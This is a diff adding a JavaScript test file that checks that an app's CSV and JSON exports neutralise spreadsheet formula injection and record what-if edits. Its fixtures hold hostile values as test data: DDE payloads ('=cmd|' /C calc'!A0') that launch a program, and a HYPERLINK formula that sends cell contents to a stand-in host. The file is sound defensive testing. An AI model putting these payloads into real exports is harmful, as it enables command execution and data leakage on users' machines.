@@ -1,0 +1,126 @@
+// The downloads, as pure functions (no browser): what Excel receives in the CSV, and how what-if
+// edits travel in the CSV and the JSON. Runs in node with the rest of e2e/ (`node --test e2e/`).
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { resultsCsv, resultsJson, csvField } from '../www/lib/exports.mjs';
+import { parseCsv, spreadsheetWouldRun } from './helpers.mjs';
+
+/**
+ * A result as the core returns it, with hostile text in every field a unit controls (the
+ * indicator, the unit, the note, the figure) and in the core's own strings that quote the input.
+ * @param {Record<string, string>} [values]
+ */
+function hostileResult(values = {}) {
+  const rows = [
+    { cell: 'B03/3.1', stt: '3.1', depth: 1, indicator: '=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")', unit: '%', value: values['B03/3.1'] ?? '99,59', note: '', line: 4 },
+    { cell: 'B03/3.1.1', stt: '3.1.1', depth: 2, indicator: '+Tổng số TTHC', unit: '\t=1+1', value: values['B03/3.1.1'] ?? '66.959', note: '', line: 5 },
+    { cell: 'B03/3.1.2', stt: '3.1.2', depth: 2, indicator: '\r=2+2', unit: '－1+1', value: values['B03/3.1.2'] ?? '66.687', note: '', line: 6 },
+    { cell: 'B03/3.2', stt: '3.2', depth: 1, indicator: '-5+A1', unit: '@SUM(1+1)*cmd|\' /C calc\'!A0', value: values['B03/3.2'] ?? '-5', note: '', line: 7 },
+    { cell: 'B03/3.3', stt: '3.3', depth: 1, indicator: 'Số hồ sơ trễ hạn', unit: 'Hồ sơ', value: '-', note: '', line: 8 },
+  ];
+  return {
+    forms: [{ form: 'B03', title: '=cmd|\'/C calc\'!A0', rows: rows.length, recognition: 'title', line: 3, table: rows }],
+    checks: [
+      { id: 'c1', kind: 'ratio', status: 'fail', cells: ['B03/3.1', 'B03/3.1.2', 'B03/3.1.1'], reported: '99,59', expected: '99,60', imbalance: '-0,01', formula: '=B03/3.1.2/B03/3.1.1×100', message: '=HYPERLINK("http://x.example") sai', inferred: false, line: 4, quote: null },
+      { id: 'c2', kind: 'sum', status: 'pass', cells: ['B03/3.2'], reported: '-5', expected: '-1,5', imbalance: '+3,5', formula: null, message: 'Đạt', inferred: true, line: 7, quote: null },
+      { id: 'c3', kind: 'range', status: 'pass', cells: ['B03/3.1.1'], reported: null, expected: null, imbalance: null, formula: null, message: 'Đạt', inferred: false, line: 5, quote: null },
+      { id: 'c4', kind: 'range', status: 'pass', cells: ['B03/3.1.2'], reported: null, expected: null, imbalance: null, formula: null, message: 'Đạt', inferred: false, line: 6, quote: null },
+      { id: 'c5', kind: 'parse', status: 'na', cells: ['B03/3.3'], reported: '-', expected: null, imbalance: null, formula: null, message: 'Không có số liệu', inferred: false, line: 8, quote: null },
+      { id: 'n1', kind: 'narrative', status: 'warn', cells: [], reported: '-12', expected: '-12,5', imbalance: '-0,5', formula: '@A1', message: '-Câu sai', inferred: false, line: 20, quote: '=1+1 đơn vị' },
+    ],
+    summary: { pass: 3, fail: 1, warn: 1, na: 1 },
+    notices: [],
+  };
+}
+
+test('CSV: no field reaches a spreadsheet as a formula, and negative figures stay numbers', () => {
+  const csv = resultsCsv(/** @type {any} */ (hostileResult()));
+  const rows = parseCsv(csv);
+  assert.ok(rows.length >= 4);
+  const fields = rows.flat();
+  for (const f of fields) assert.ok(!spreadsheetWouldRun(f), `a field a spreadsheet would run: ${JSON.stringify(f)}`);
+  // The hostile text is kept, made inert by a leading apostrophe (what Excel itself uses).
+  assert.ok(fields.includes('\'=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")'));
+  assert.ok(fields.includes('\'@SUM(1+1)*cmd|\' /C calc\'!A0'));
+  assert.ok(fields.includes('\'+Tổng số TTHC'));
+  assert.ok(fields.includes('\'\t=1+1'));
+  assert.ok(fields.includes('\'\r=2+2'));
+  assert.ok(fields.includes('\'－1+1'));
+  assert.ok(fields.includes('\'-5+A1'));
+  assert.ok(fields.includes('\'=HYPERLINK("http://x.example") sai'));
+  assert.ok(fields.includes('\'=1+1 đơn vị'));
+  // Figures, signed or not, are written as they were printed.
+  for (const n of ['-5', '-1,5', '-0,01', '+3,5', '-12', '-12,5', '-0,5', '99,59', '66.959']) {
+    assert.ok(fields.includes(n), `${n} should stay a number`);
+  }
+  // A lone dash (no figure, as many tables print it) cannot start a formula and is kept.
+  assert.ok(fields.includes('-'));
+});
+
+test('csvField quotes and neutralises one value at a time', () => {
+  assert.equal(csvField('=1+1'), "'=1+1");
+  assert.equal(csvField('=A1,B1'), '"\'=A1,B1"');
+  assert.equal(csvField('-1.234,5'), '"-1.234,5"');
+  assert.equal(csvField('-3%'), '-3%');
+  assert.equal(csvField('-3 - 2'), "'-3 - 2");
+  assert.equal(csvField(' =1+1'), "' =1+1");
+  assert.equal(csvField(-7), '-7');
+  assert.equal(csvField(null), '');
+  assert.equal(csvField('Số "ghi"'), '"Số ""ghi"""');
+});
+
+test('CSV and JSON carry the printed figure beside a what-if edit, and mark it', () => {
+  // 66.687 printed; the official tried 66.678 in a meeting. The core saw 66.678 (the override).
+  const edits = { 'B03/3.1.2': { value: '66.678', original: '66.687' } };
+  const result = /** @type {any} */ (hostileResult({ 'B03/3.1.2': '66.678' }));
+  const rows = parseCsv(resultsCsv(result, { edits }));
+  const header = rows[0];
+  const col = (/** @type {string} */ name) => {
+    const i = header.indexOf(name);
+    assert.ok(i >= 0, `column ${name} in ${header.join(' | ')}`);
+    return i;
+  };
+  const original = col('Số liệu gốc (in trong báo cáo)');
+  const tried = col('Thử sửa');
+  const value = col('Số liệu');
+  const about = rows.find((r) => r[1] === 'B03/3.1');
+  assert.ok(about);
+  // The check about 3.1 used the edited 3.1.2: the line says so, with both figures.
+  assert.match(about[tried], /B03\/3\.1\.2: 66\.687 → 66\.678/);
+  assert.equal(about[original], '');
+  // A check about an unedited cell has neither.
+  const other = rows.find((r) => r[1] === 'B03/3.2');
+  assert.ok(other);
+  assert.equal(other[tried], '');
+  assert.equal(other[original], '');
+  // Without edits the columns are there and empty (one layout for every file).
+  const plain = parseCsv(resultsCsv(/** @type {any} */ (hostileResult())));
+  assert.deepEqual(plain[0], header);
+  assert.ok(plain.slice(1).every((r) => r[tried] === '' && r[original] === ''));
+  assert.ok(rows.slice(1).every((r) => r.length === header.length));
+  assert.equal(value >= 0, true);
+
+  const json = JSON.parse(resultsJson(result, { edits }));
+  const row = json.forms[0].table.find((/** @type {any} */ r) => r.cell === 'B03/3.1.2');
+  assert.equal(row.value, '66.678');
+  assert.equal(row.original, '66.687');
+  assert.equal(row.edited, true);
+  assert.deepEqual(json.edits, [{ cell: 'B03/3.1.2', original: '66.687', value: '66.678' }]);
+  const untouched = json.forms[0].table.find((/** @type {any} */ r) => r.cell === 'B03/3.1');
+  assert.equal('edited' in untouched, false);
+  // The result passed in is not changed (the page keeps showing it).
+  assert.equal('original' in result.forms[0].table[2], false);
+  // No edits: the core's document as it was, and no "edits" key.
+  assert.deepEqual(JSON.parse(resultsJson(result)), result);
+});
+
+test('CSV: the checks about an edited cell give its printed figure', () => {
+  const edits = { 'B03/3.2': { value: '7', original: '-5' } };
+  const rows = parseCsv(resultsCsv(/** @type {any} */ (hostileResult({ 'B03/3.2': '7' })), { edits }));
+  const header = rows[0];
+  const line = rows.find((r) => r[1] === 'B03/3.2');
+  assert.ok(line);
+  assert.equal(line[header.indexOf('Số liệu')], '7');
+  assert.equal(line[header.indexOf('Số liệu gốc (in trong báo cáo)')], '-5');
+  assert.match(line[header.indexOf('Thử sửa')], /^B03\/3\.2: -5 → 7$/);
+});
